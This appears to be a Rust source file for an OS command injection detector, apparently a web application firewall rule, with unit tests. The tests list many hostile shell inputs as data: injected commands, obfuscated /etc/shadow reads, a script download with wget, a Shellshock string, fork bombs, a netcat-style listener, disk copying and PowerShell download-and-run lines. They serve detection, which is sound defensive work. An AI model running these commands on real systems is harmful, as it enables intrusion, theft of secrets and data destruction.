//! OS command injection: removes shell obfuscation (empty quotes, backslashes
//! inside words, `$IFS`, unknown `${...}` expansions, brace lists), finds the
//! positions where a shell starts a new command (value start, `;` `|` `&`
//! newline, backticks, `$(`), and judges the command word found there
//! (known Unix and Windows binaries, globbed paths such as `/???/c?t`) by its
//! arguments.

mod args;
mod names;
mod shapes;
pub mod shell;
pub mod words;

use super::norm::Norm;
use super::{Finding, InputContext, Level, Signal};
use args::{
    after_first, arg_plain, flag_shape, flag_within, lone_word, long_flag, one_line_command,
    shelly_arg, system_path_arg,
};
use names::{command_word, glob_match_any, is_clear, is_wordy, split_path};
use shapes::{expansion_only, sqlite_dot_command, start_shapes, var_run, wrapped_command};
use shell::{deobfuscate, obfuscated, special};
use words::{ENGLISHY, SHELLS};

/// Detects OS command injection in one value.
pub fn detect(n: &Norm, ctx: InputContext) -> Option<Finding> {
    let plus_spaced;
    let lower = if n.lower.contains('+') && !n.lower.contains(' ') {
        plus_spaced = n.lower.replace('+', " ");
        &plus_spaced
    } else {
        &n.lower
    };
    if let Some(r) = expansion_only(n.lower.trim()) {
        return Some(r.finding(&n.lower));
    }
    let s = deobfuscate(lower);
    // `special` is pure: on the same text the second call repeats the first.
    let mut r = special(&s)
        .or_else(|| (s != n.lower).then(|| special(&n.lower)).flatten())
        .or_else(|| positions(&s, ctx));
    // A weak hit, or a known binary once the obfuscation is undone
    // (`wh$$oami`), is confident when the value needed obfuscation.
    let weak = r.map_or_else(|| obfuscated_word(&s), |r| r.level == Level::Pl2);
    if weak && obfuscated(&n.lower) {
        r = Some(Signal::new(Level::Pl1, "obfuscated command"));
    }
    r.map(|sig| sig.finding(&s))
}

#[derive(Clone, Copy, PartialEq)]
enum Pos {
    Start,
    Sep(bool),
    /// `true` for `$(`, `<(` and `>(`; `false` for a backtick (Markdown
    /// quotes words in backticks too).
    Subst(bool),
}

fn positions(s: &str, ctx: InputContext) -> Option<Signal> {
    let b = s.as_bytes();
    let mut best: Option<Signal> = None;
    let mut i = 0;
    let consider = |at: usize, pos: Pos, best: &mut Option<Signal>| {
        if let Some(r) = judge_at(&s[at..], pos, ctx) {
            if best.is_none_or(|b| r.level < b.level) {
                *best = Some(r);
            }
        }
    };
    consider(0, Pos::Start, &mut best);
    let mut known = usize::from(command_word(s).is_some());
    // Only `;`, `&`, `&&` chains count: `|` also draws Markdown tables.
    let mut seen = 0;
    let mut ticks = 0;
    while i < b.len() && seen < 256 {
        let (pos, skip) = match b[i] {
            b';' => (Some(Pos::Sep(true)), 1),
            b'\n' | b'\r' => (Some(Pos::Sep(false)), 1),
            b'|' | b'&' if b.get(i + 1) == Some(&b[i]) => (Some(Pos::Sep(true)), 2),
            b'|' => (Some(Pos::Sep(true)), 1),
            b'&' => (Some(Pos::Sep(false)), 1),
            // A closing backtick ends a substitution; only an opening one
            // starts a command.
            b'`' => {
                ticks += 1;
                (Some(Pos::Subst(false)).filter(|_| ticks % 2 == 1), 1)
            }
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Some(Pos::Subst(true)), 2),
            _ => (None, 1),
        };
        i += skip;
        if let Some(p) = pos {
            seen += 1;
            consider(i, p, &mut best);
            let chained = matches!(b[i - 1], b';' | b'&');
            known += usize::from(chained && command_word(&s[i..]).is_some());
            if known >= 2 && chained && best.is_none_or(|b| b.level > Level::Pl1) {
                best = Some(Signal::new(Level::Pl1, "chain of shell commands"));
            }
            if i <= 2
                && matches!(p, Pos::Sep(true))
                && (flag_shape(&s[i..]) || lone_word(&s[i..]))
                && best.is_none_or(|b| b.level > Level::Pl1)
            {
                best = Some(Signal::new(
                    Level::Pl1,
                    "command line after a leading separator",
                ));
            }
        }
        if best.is_some_and(|b| b.level == Level::Pl1) {
            break;
        }
    }
    best
}

/// Words that run the command after them.
const WRAPPERS: &[&str] = &[
    "time", "nohup", "sudo", "env", "xargs", "exec", "command", "builtin", "nice", "strace",
    "busybox",
];

fn judge_at(rest: &str, pos: Pos, ctx: InputContext) -> Option<Signal> {
    let mut rest = rest.trim_start_matches(|c: char| {
        c.is_whitespace() || matches!(c, '(' | '{' | '"' | '\'' | '!')
    });
    if matches!(pos, Pos::Sep(true)) && var_run(rest) {
        return Some(Signal::new(Level::Pl1, "variable run as a command"));
    }
    if matches!(pos, Pos::Sep(_)) && sqlite_dot_command(rest) {
        return Some(Signal::new(
            Level::Pl1,
            "SQLite shell command after a separator",
        ));
    }
    if pos == Pos::Start && ctx != InputContext::Path {
        if let Some(hit) = start_shapes(rest) {
            return Some(hit);
        }
    }
    while rest.starts_with('$') && !rest.starts_with("$(") {
        rest = rest
            .trim_start_matches(|c: char| c == '$' || c.is_ascii_alphanumeric() || c == '_')
            .trim_start();
    }
    for w in WRAPPERS {
        if let Some(r) = rest.strip_prefix(w).filter(|r| r.starts_with(' ')) {
            if let Some(hit) = judge_at(r, Pos::Sep(true), ctx) {
                return Some(hit);
            }
        }
    }
    if let Some(hit) = wrapped_command(rest) {
        return Some(hit);
    }
    let word_end = rest
        .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
        .unwrap_or(rest.len());
    let word = &rest[..word_end];
    let arg = rest[word_end..].trim_start_matches(|c: char| c.is_whitespace() || c == '<');
    let (had_path, name) = split_path(word);
    let name = name.trim_end_matches(".exe");
    // `python3.10`, `gcc7.4`: a binary with its version glued on.
    let name = if !is_clear(name) && name.contains('.') {
        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
    } else {
        name
    };
    let clear = is_clear(name) || (had_path && glob_match_any(name));
    let wordy = is_wordy(name);
    if !clear && !wordy {
        return None;
    }
    // `cmd < file`: an input redirection is shell syntax.
    // (`mysql> ` with the sign glued to the word is a prompt, not that.)
    let redirected = rest[word_end..].starts_with(char::is_whitespace)
        && rest[word_end..].trim_start().starts_with(['<', '>']);
    let shelly = shelly_arg(arg, name) || redirected && !arg.is_empty();
    let at_end = arg.is_empty() || arg.starts_with(['|', ';', '&', '`', ')', '#']);
    let englishy = ENGLISHY.contains(&name);
    match pos {
        Pos::Subst(strong) if clear || shelly || strong && wordy => {
            Some(Signal::new(Level::Pl1, "command substitution"))
        }
        Pos::Sep(strong)
            if clear && (shelly || at_end || strong && !englishy && arg_plain(arg)) =>
        {
            Some(Signal::new(Level::Pl1, "command after a shell separator"))
        }
        Pos::Sep(_) if wordy && shelly => {
            Some(Signal::new(Level::Pl1, "command after a shell separator"))
        }
        Pos::Sep(_) if had_path => Some(Signal::new(Level::Pl1, "command path after a separator")),
        Pos::Start if had_path && (clear || shelly) && ctx != InputContext::Path => {
            Some(Signal::new(Level::Pl1, "command path"))
        }
        // A User-Agent or Referer is a product token or a URL, never a
        // command line.
        Pos::Start
            if ctx.is_header() && clear && (shelly || !englishy && (at_end || arg_plain(arg))) =>
        {
            Some(Signal::new(Level::Pl1, "command line in a header"))
        }
        Pos::Start if clear && long_flag(arg) => {
            Some(Signal::new(Level::Pl1, "command line with a long option"))
        }
        Pos::Start if clear && !englishy && flag_within(arg, 3) => {
            Some(Signal::new(Level::Pl1, "command line"))
        }
        Pos::Start if clear && englishy && system_path_arg(arg) => {
            Some(Signal::new(Level::Pl1, "command on a system path"))
        }
        Pos::Start
            if clear && SHELLS.contains(&name) && arg.starts_with("-c")
                || name == "nc" && arg.contains("-e") =>
        {
            Some(Signal::new(Level::Pl1, "interpreter invocation"))
        }
        Pos::Start if clear && shelly && !englishy => Some(Signal::new(Level::Pl1, "command line")),
        Pos::Start if wordy && shelly && shelly_arg(after_first(arg), name) => {
            Some(Signal::new(Level::Pl1, "command line"))
        }
        Pos::Start if clear && one_line_command(rest) => {
            Some(Signal::new(Level::Pl1, "command line ended by a newline"))
        }
        Pos::Start if clear && shelly => Some(Signal::new(Level::Pl2, "command line")),
        _ => None,
    }
}

/// A known binary starts the value once the obfuscation is undone
/// (`wh$$oami`).
fn obfuscated_word(s: &str) -> bool {
    command_word(s).is_some_and(|w| is_clear(w) && !ENGLISHY.contains(&w))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lvl(s: &str) -> Option<Level> {
        detect(&Norm::new(s), InputContext::QueryValue).map(|f| f.level)
    }

    #[test]
    fn catches_commands() {
        for s in [
            "8.8.8.8; whoami",
            "x | c''at /etc/hostname",
            "a && /???/c?t /etc/group",
            "q`uname -a`",
            "z$(id)",
            "name\nwget http://198.51.100.7/x.sh",
            "y;ca\\t${IFS}/etc/issue",
            "| dir c:\\windows",
            "& ping -n 3 192.0.2.1",
            "foo;{ls,-la,/}",
            "abc & cmd.exe /c ver",
            "bash -c 'touch /tmp/p'",
            "echo $((6*7))",
            "for /f %i in ('whoami') do echo %i",
            "v=${`id`}",
            "pi$()ng -c 1 192.0.2.1",
            "time curl example.org",
            "IF EXIST C:\\boot.ini ECHO yes",
            "f(){ f|f& };f",
            ";anytool -x whatever",
            "cd /;cd etc;more passwd",
            ";sometool",
            "uname -r\n",
            "() { :; }; echo vulnerable",
            "g(){ g & g; }; g",
            "nohup whoami\n",
            "IF /I \"%v%\" GEQ \"2\" ECHO two",
            "/bin/ca't' /etc/hostname",
            "x|type %SYSTEMROOT%\\win.ini",
            "7;.shell uname -a",
            "2; .system id",
            "0;.\\\"sh whoami",
            "9;\n.tables",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn passes_text() {
        for s in [
            "Tom & Jerry",
            "cats | dogs",
            "first; then more to come",
            "rock & roll; we sleep well",
            "the cat sat on the mat",
            "salt & pepper & time",
            "find the best deal",
            "A|B testing",
            "see ch. 3; -5 degrees",
            "first; then more; done",
            "Windows 11; .system requirements",
            "scripts; .sh files run anywhere",
            "see the docs; .tables are below",
        ] {
            assert_ne!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn catches_admin_tools_and_shell_tricks() {
        for s in [
            "terraform destroy -auto-approve",
            "kubectl get secrets -A",
            "uname --all",
            "cat /e[?]c/shadow",
            "x;$b -lvnp 4444",
            "alias ll2=whoami",
            "alias -p q=id",
            "npm install left-padder",
            "usr/local/bin/runme",
            "{,uname,-a}",
            "$SHELL -c id",
            "${SHELL} -c id",
            "wh$$oami",
            "una$-me -a",
            "q$(tee /tmp/o)",
            "ping`` 10.0.0.1",
            "x&nmcli",
            "dd if=/dev/sda of=/tmp/disk",
            "flock -x /tmp uname",
            "x | gcc9.1",
            "a&ipconfig < in.txt",
            "ionice -c 3 ifconfig",
            "~+3",
            "!-2!-3",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
        let header = |s: &str| detect(&Norm::new(s), InputContext::UserAgent).map(|f| f.level);
        for s in [
            "nmap -sV 192.0.2.4",
            "cat /etc/shadow",
            "visudo",
            "kubectl get pods",
        ] {
            assert_eq!(header(s), Some(Level::Pl1), "{s}");
        }
        for s in [
            "Mozilla/5.0 (X11; Linux x86_64)",
            "curl/8.5.0",
            "Docker/24.0 (linux)",
            "https://example.com/search?q=cat",
        ] {
            assert_eq!(header(s), None, "{s}");
        }
    }

    #[test]
    fn passes_tool_names_in_prose() {
        for s in [
            "pip is a package manager",
            "alias: the Smith family",
            "docker is great",
            "the --verbose flag",
            "terraform apply failed again",
            "sort by date",
            "use `sort` here",
            "about ~5 minutes",
            "a{,3}",
            "bin/report.pdf",
            "ansible",
            "kubectl docs",
            "timeout after 5 seconds",
            "watch the whoami video",
            "python3.10 is out",
            "~5",
            "wow!!",
            "!1",
            "done; mysql> grant all on db.* to u",
        ] {
            assert_ne!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn guarded_shell_shapes_still_caught() {
        for s in [
            "IF/I a==a echo same",
            "if\texist c:\\pagefile.sys echo there",
            "if not defined q echo unset",
            "x iex (get-content c:/t.ps1)",
            "iwr https://example.net/a.ps1",
            "x invoke-webrequest -uri y",
            "for %f in (*.log) do type %f",
            "echo owned > /var/www/html/x.txt",
            "printf a 2>>/tmp/q",
            "Echo Hi >/etc/cron.d/job",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
        assert!(special("gift wrap, deliver after 5pm").is_none());
    }
}
